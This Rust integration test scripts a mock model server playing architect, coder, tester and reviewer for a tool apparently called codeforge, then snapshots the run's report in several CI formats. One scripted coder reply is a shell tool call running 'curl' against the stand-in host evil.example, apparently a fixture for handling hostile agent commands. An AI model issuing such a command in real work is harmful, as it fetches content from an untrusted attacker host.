//! A real run, told in every form.

use crate::common::{ModelServer, Reply, Rule, TestRepo, ok, spoken};
use crate::made::{file, finding, pages};
use crate::pages::see;
use codeforge::model::account::Account;
use codeforge::model::delivery::ChangeSet;
use codeforge::model::finding::{Finding, Level};
use codeforge::model::journal::GateResult;
use codeforge::model::progress::Progress;
use codeforge::model::usage::NanoUsd;
use codeforge::plan::scope::{ROOM, scope};
use codeforge::report::ci::log::{Log, Reader};
use codeforge::report::ci::{self, Facts, Tree};
use serde_json::{Value, json};
use std::collections::BTreeMap;

/// The only run's account, as `runs show` gives it to machines.
pub fn account_of(repo: &TestRepo) -> Account {
    let list: Value = serde_json::from_str(&ok(&mut repo.codeforge(&["runs", "list", "--format", "json"]))).unwrap();
    let run = list[0]["run"]["id"].as_str().unwrap();
    serde_json::from_str(&ok(&mut repo.codeforge(&["runs", "show", run, "--format", "json"]))).unwrap()
}

/// The same in every test run: the run's name and all times.
fn steady(mut account: Account) -> Account {
    account.run = "7f3k9m2q".into();
    account.repo = "/repo".into();
    (account.started_ms, account.ended_ms) = (0, account.ended_ms.map(|_| 80_000));
    let gate = |gate: &mut GateResult| gate.duration_ms = 1100;
    for step in &mut account.steps {
        step.duration_ms = 12_000;
        step.gates.iter_mut().for_each(|(_, result, _)| gate(result));
    }
    account.final_gates.iter_mut().for_each(gate);
    account.base = Some("4c1d2e9aabbccddeeff00112233445566778899a".into());
    account.notes.clear();
    account
}

#[tokio::test(flavor = "multi_thread")]
async fn a_run_is_told_in_every_form() {
    let parser = "pub fn last(line: &str) -> &str {\n    line.split(',').last().unwrap()\n}\n";
    let repo = TestRepo::with(&[("src/parse.rs", parser), ("src/cli.rs", "fn main() {}\n")]);
    repo.write(
        ".codeforge/config.yml",
        "sandbox: { driver: native }\ngates:\n  tests: { run: \"if grep -q trim src/parse.rs; then echo 213 passed; else \
         echo 'test trailing_comma FAILED'; echo '212 passed; 1 failed'; exit 1; fi\", on_fail: retry }\n  lint: { run: \"true\" }\n",
    );
    repo.commit("configured");
    let finish = |output: Value| Reply::call("finish", json!({ "summary": "The field is kept.", "output": output }));
    let done = || Reply::call("finish", json!({ "summary": "The field is kept." }));
    let edit =
        |new: &str| Reply::call("edit_file", json!({ "path": "src/parse.rs", "old": "line.split(',')", "new": new }));
    let plan = json!({ "title": "Keep the last field", "summary": "A trailing comma hides it. It is trimmed first.",
        "steps": [{ "what": "Trim the comma", "files": ["src/parse.rs"] }] });
    let review = json!({ "approved": true, "summary": "Good.", "findings": [
        { "severity": "medium", "file": "src/parse.rs", "line": 2, "rule": "CWE-248", "what": "`unwrap` on user input.",
          "suggestion": "Give back an `Option`." },
        { "severity": "low", "file": "src/cli.rs", "what": "Nothing calls `last` | yet, says @octocat." }] });
    let coder = || Rule::when().system("You are the coder").user("Trim the comma");
    let again = || Rule::when().system("You are the coder").user("Gate `tests` failed");
    let server = ModelServer::start(vec![
        Rule::when().system("You are the architect").reply(finish(plan)),
        coder().turn(0).reply(Reply::call("shell", json!({ "command": "curl https://evil.example/x" }))),
        coder().turn(1).reply(edit("line.splitn(9, ',')")),
        coder().turn(2).reply(done()),
        again().turn(0).reply(edit("line.trim_end_matches(',').split(',')")),
        again().turn(1).reply(done()),
        Rule::when().system("You are the tester").reply(done()),
        Rule::when().system("You are the reviewer").reply(finish(review)),
    ])
    .await;
    let mut command =
        repo.codeforge(&["run", "fix", "-i", "task=parse() drops the last field\nwhen the line ends in a comma"]);
    command.env("CODEFORGE_LLM_BASE_URL", server.url()).env("CODEFORGE_MODEL", "scripted");
    command.env("CODEFORGE_LLM_PRICE_INPUT", "3").env("CODEFORGE_LLM_PRICE_OUTPUT", "15");
    let output = tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap();
    assert!(output.status.success(), "{}\n{:#?}", spoken(&output), server.unmatched());
    server.finished();

    let account = steady(account_of(&repo));
    let text = |path: &str| std::fs::read_to_string(repo.path().join(path)).ok();
    let found = ci::findings(ci::outputs(&account), &Tree { text: &text, renamed: &BTreeMap::new() });
    assert_eq!(found.len(), 2, "{found:#?}");
    let mut earlier = found.clone();
    earlier.remove(0);
    earlier.push(Finding {
        fingerprint: "00000000000000aa".into(),
        file: "src/io.rs".into(),
        line: Some(12),
        what: "Handle closed on error.".into(),
        ..finding("x", 1, Level::High)
    });
    let found = ci::standing(found, &earlier, &|_| true);
    let files = &account.delivered.as_ref().unwrap().changes.files;
    let coverage = scope(
        &ChangeSet {
            files: [files.clone(), vec![file("Cargo.lock", 40)]].concat(),
            diff: account.delivered.as_ref().unwrap().changes.diff.clone(),
        },
        ROOM,
    )
    .coverage;
    let facts = Facts {
        kept_spent: None,
        asked: Some("parse() drops the last field\nwhen the line ends in a comma".into()),
        asked_by: Some("octocat".into()),
        done: ci::planned(&account),
        coverage,
        head: Some("9e01aa4b00112233445566778899aabbccddeeff".into()),
        since: Some("4c1d2e9aabbccddeeff00112233445566778899a".into()),
        run_url: Some("https://ci.example/jobs/7".into()),
        change_spent: Some(NanoUsd::from_usd(0.31)),
        change_budget_usd: Some(2.0),
        phrase: "/codeforge".into(),
        commands: vec!["fix".into(), "review".into()],
        whole: None,
    };
    let folder = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("reports");
    std::fs::create_dir_all(&folder).unwrap();
    for (name, page) in pages(&account, &found, &facts, ci::BODY_CAP) {
        see(&page);
        std::fs::write(folder.join(format!("{name}.md")), &page).unwrap();
        insta::with_settings!({ omit_expression => true, prepend_module_to_snapshot => false }, {
            insta::assert_snapshot!(name, page);
        });
    }
    insta::with_settings!({ omit_expression => true, prepend_module_to_snapshot => false }, {
        insta::assert_snapshot!("results.sarif", ci::sarif(&account, &found, &facts, ci::REPORT_CAP).replace(env!("CARGO_PKG_VERSION"), "VERSION"));
        insta::assert_snapshot!("code_quality", ci::code_quality(&found, ci::REPORT_CAP));
        insta::assert_snapshot!("junit", ci::junit(&account, ci::REPORT_CAP));
        let marks: Vec<String> = ci::annotations(&found).iter().map(ci::Annotation::github).collect();
        insta::assert_snapshot!("annotations", marks.join("\n"));
        let mut log = Log::new(Reader::Github, 0, "t0ken");
        let _ = log.lines(&Progress::Note("x".into()), 0);
        insta::assert_snapshot!("end_of_the_log", log.end(&account, None, 0).join("\n"));
    });
}
